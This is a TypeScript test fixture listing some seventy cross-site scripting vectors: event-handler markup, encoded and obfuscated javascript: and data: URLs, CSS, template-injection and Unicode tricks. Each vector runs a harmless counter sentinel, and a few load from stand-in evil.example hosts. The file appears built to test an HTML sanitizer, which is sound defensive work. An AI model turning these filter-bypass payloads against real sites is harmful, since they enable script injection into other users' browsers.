/**
 * A corpus of known script-injection vectors. Every vector that manages to execute calls the same
 * sentinel: it bumps `self.__xss` in the window it runs in and posts `fcb-xss` to its parent, so
 * execution inside the page (or inside a frame it created, even one with an opaque origin) is
 * counted. `sink` names the native context where the vector is live in a browser, so a control
 * test can prove the sentinel really fires when a vector does get through.
 */

/** The JavaScript every vector runs when it executes (no spaces: it survives unquoted attributes). */
export const SENTINEL_JS = "self.__xss=(self.__xss||0)+1;parent.postMessage('fcb-xss','*')";
/** The message a vector running in a child frame posts. */
export const SENTINEL_MESSAGE = 'fcb-xss';

const S = SENTINEL_JS;
const html = `<script>${S}</script>`;
const b64 = (text: string) => btoa(text);
const pct = (text: string) => Array.from(text, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const svgDoc = `<svg xmlns="http://www.w3.org/2000/svg" onload="${S}"><script>${S}</script></svg>`;

/** The family a vector belongs to. */
export type VectorKind = 'markup' | 'url' | 'css' | 'template' | 'unicode';

/**
 * Where a vector is live in Chromium: `html` parsed as a document's markup, `url` loaded as a
 * frame's address (as an `href` would be followed), `attr` written into a frame's `src` attribute
 * in markup (entities decoded), `click` parsed as markup and then clicked or hovered. Absent: not
 * executable in Chromium at all (e.g. `vbscript:`, IE's `expression()`, percent-encoded schemes),
 * kept because other engines or naive filters have fallen for them.
 */
export type VectorSink = 'html' | 'url' | 'attr' | 'click';

/** One injection vector. */
export interface XssVector {
  id: string;
  kind: VectorKind;
  value: string;
  sink?: VectorSink;
}

/** Every vector. Ids are stable: they name failures. */
export const XSS_VECTORS: readonly XssVector[] = [
  // Markup and event handlers
  { id: 'script-tag', kind: 'markup', value: html, sink: 'html' },
  { id: 'img-onerror', kind: 'markup', value: `<img src=x onerror=${S}>`, sink: 'html' },
  { id: 'svg-onload', kind: 'markup', value: `<svg onload=${S}>`, sink: 'html' },
  { id: 'svg-script', kind: 'markup', value: `<svg><script>${S}</script></svg>`, sink: 'html' },
  { id: 'iframe-srcdoc', kind: 'markup', value: `<iframe srcdoc="&lt;script&gt;${S}&lt;/script&gt;"></iframe>`, sink: 'html' },
  { id: 'iframe-js-src', kind: 'markup', value: `<iframe src="javascript:${S}"></iframe>`, sink: 'html' },
  { id: 'object-data-html', kind: 'markup', value: `<object data="data:text/html;base64,${b64(html)}"></object>`, sink: 'html' },
  { id: 'embed-svg', kind: 'markup', value: `<embed src="data:image/svg+xml;base64,${b64(svgDoc)}">`, sink: 'html' },
  { id: 'details-ontoggle', kind: 'markup', value: `<details open ontoggle=${S}>x</details>`, sink: 'html' },
  { id: 'video-source-onerror', kind: 'markup', value: `<video><source onerror=${S}></video>`, sink: 'html' },
  { id: 'attr-breakout-double', kind: 'markup', value: `"><img src=x onerror=${S}>`, sink: 'html' },
  { id: 'attr-breakout-single', kind: 'markup', value: `'><svg onload=${S}>`, sink: 'html' },
  { id: 'textarea-breakout', kind: 'markup', value: `</textarea></title></style><img src=x onerror=${S}>`, sink: 'html' },
  { id: 'mxss-noscript', kind: 'markup', value: `<noscript><p title="</noscript><img src=x onerror=${S}>">`, sink: 'html' },
  { id: 'mxss-math-style', kind: 'markup', value: `<math><mtext><table><mglyph><style><img src=x onerror=${S}>`, sink: 'html' },
  { id: 'a-href-js', kind: 'markup', value: `<a href="javascript:${S}">Verify badge</a>`, sink: 'click' },
  { id: 'form-formaction', kind: 'markup', value: `<form><button formaction="javascript:${S}">Share</button></form>`, sink: 'click' },
  { id: 'hover-handler', kind: 'markup', value: `<b onmouseover=${S} style="display:block;width:100vw;height:100vh">x</b>`, sink: 'click' },
  { id: 'base-href', kind: 'markup', value: `<base href="javascript:${S}//">` },
  { id: 'meta-refresh', kind: 'markup', value: `<meta http-equiv="refresh" content="0;url=javascript:${S}">` },
  { id: 'html-comment-break', kind: 'markup', value: `--><!--<img src="--><img src=x onerror=${S}>">` },
  { id: 'null-byte-tag', kind: 'markup', value: `<scr\u0000ipt>${S}</scr\u0000ipt><img src=x on\u0000error=${S}>` },

  // URL schemes, encoded and disguised
  { id: 'js-url', kind: 'url', value: `javascript:${S}`, sink: 'url' },
  { id: 'js-mixed-case', kind: 'url', value: `JaVaScRiPt:${S}`, sink: 'url' },
  { id: 'js-tab', kind: 'url', value: `java\tscript:${S}`, sink: 'url' },
  { id: 'js-newline', kind: 'url', value: `java\nscript:${S}`, sink: 'url' },
  { id: 'js-carriage-return', kind: 'url', value: `jav\ras\ncript:${S}`, sink: 'url' },
  { id: 'js-leading-space', kind: 'url', value: `   javascript:${S}`, sink: 'url' },
  { id: 'js-leading-control', kind: 'url', value: `\u0001\u001f javascript:${S}`, sink: 'url' },
  { id: 'js-entity-decimal', kind: 'url', value: `&#106;avascript:${S}`, sink: 'attr' },
  { id: 'js-entity-hex', kind: 'url', value: `&#x6A;&#x61;vascript&#x3A;${S}`, sink: 'attr' },
  { id: 'js-entity-colon', kind: 'url', value: `javascript&colon;${S}`, sink: 'attr' },
  { id: 'js-percent', kind: 'url', value: `%6Aavascript:${S}` },
  { id: 'js-percent-all', kind: 'url', value: `${pct('javascript:')}${S}` },
  { id: 'js-comment-newline', kind: 'url', value: `javascript://badges.example.org/%0A${S}`, sink: 'url' },
  { id: 'js-in-https-wrapper', kind: 'url', value: `https:javascript:${S}` },
  { id: 'js-fullwidth', kind: 'url', value: `ｊａｖａｓｃｒｉｐｔ:${S}` },
  { id: 'vbscript', kind: 'url', value: 'vbscript:msgbox("fcb-xss")' },
  { id: 'vbscript-mixed-case', kind: 'url', value: 'VbScRiPt:Execute("fcb-xss")' },
  { id: 'data-html', kind: 'url', value: `data:text/html,${html}`, sink: 'url' },
  { id: 'data-html-base64', kind: 'url', value: `data:text/html;base64,${b64(html)}`, sink: 'url' },
  { id: 'data-html-mixed-case', kind: 'url', value: `DaTa:TeXt/HtMl,${html}`, sink: 'url' },
  { id: 'data-svg-raw', kind: 'url', value: `data:image/svg+xml,${svgDoc}`, sink: 'url' },
  { id: 'data-svg-percent', kind: 'url', value: `data:image/svg+xml,${encodeURIComponent(svgDoc)}`, sink: 'url' },
  { id: 'data-svg-base64', kind: 'url', value: `data:image/svg+xml;base64,${b64(svgDoc)}`, sink: 'url' },
  { id: 'data-xhtml', kind: 'url', value: `data:application/xhtml+xml;base64,${b64(`<html xmlns="http://www.w3.org/1999/xhtml"><body>${html}</body></html>`)}`, sink: 'url' },
  { id: 'blob-scheme', kind: 'url', value: 'blob:https://evil.example/1f0c9b8e-0000-4000-8000-000000000000' },
  { id: 'protocol-relative', kind: 'url', value: '//evil.example/badge.png' },
  { id: 'https-quote-breakout', kind: 'url', value: `https://badges.example.org/"><img src=x onerror=${S}>` },
  { id: 'https-single-quote-breakout', kind: 'url', value: `https://badges.example.org/' onmouseover='${S}` },
  { id: 'https-fragment-markup', kind: 'url', value: `https://badges.example.org/#<script>${S}</script>` },
  { id: 'https-userinfo', kind: 'url', value: `https://javascript:${S}@evil.example/` },

  // CSS
  { id: 'css-expression', kind: 'css', value: `width:expression(${S})` },
  { id: 'css-url-js', kind: 'css', value: `background:url(javascript:${S})` },
  { id: 'css-import', kind: 'css', value: `@import 'javascript:${S}';` },
  { id: 'css-style-breakout', kind: 'css', value: `</style><img src=x onerror=${S}>`, sink: 'html' },
  { id: 'css-style-attr', kind: 'css', value: `" style="background-image:url(javascript:${S})` },
  { id: 'css-behavior', kind: 'css', value: 'behavior:url(#default#time2);-moz-binding:url(https://evil.example/xss.xml#x)' },

  // Template and ICU message injection
  { id: 'icu-plural', kind: 'template', value: `{count, plural, one {<img src=x onerror=${S}>} other {# badges}}` },
  { id: 'icu-select', kind: 'template', value: `{gender, select, male {<svg onload=${S}>} other {x}}` },
  { id: 'icu-positional', kind: 'template', value: '{0}{1}' },
  { id: 'icu-placeholders', kind: 'template', value: '{name} {issuer} {url} {count}' },
  { id: 'icu-rich-tag', kind: 'template', value: `<b>{name}</b><a>{url}</a><script>${S}</script>` },
  { id: 'icu-unbalanced', kind: 'template', value: "{ '{' }} '' {{{" },
  { id: 'template-literal', kind: 'template', value: `\${${S}}` },
  { id: 'angular-expression', kind: 'template', value: `{{constructor.constructor("${S.replace(/'/g, '\\x27')}")()}}` },
  { id: 'server-template', kind: 'template', value: '<%= 7*7 %> #{7*7} {{7*7}} ${7*7}' },

  // Unicode tricks
  { id: 'rlo', kind: 'unicode', value: '\u202Egnp.egdab\u202C Data Science \u202Dtxet\u202C' },
  { id: 'zero-width-scheme', kind: 'unicode', value: `java\u200Bscript:${S}` },
  { id: 'zero-width-markup', kind: 'unicode', value: `<\u200Bimg src=x onerror=${S}>\uFEFF\u2060` },
  { id: 'fullwidth-brackets', kind: 'unicode', value: `＜script＞${S}＜/script＞` },
  { id: 'combining-overlay', kind: 'unicode', value: `<\u0338script>${S}</script\u0338>` },
  { id: 'bidi-isolate-escape', kind: 'unicode', value: '\u2067\u2066\u2068 Verified \u2069\u2069 issuer \u202B\u202A' },
  { id: 'lone-surrogate', kind: 'unicode', value: `\uD800 badge \uDFFF <img src=x onerror=${S}>` },
  { id: 'line-separator', kind: 'unicode', value: `Badge\u2028</script><script>${S}</script>\u2029` },
];
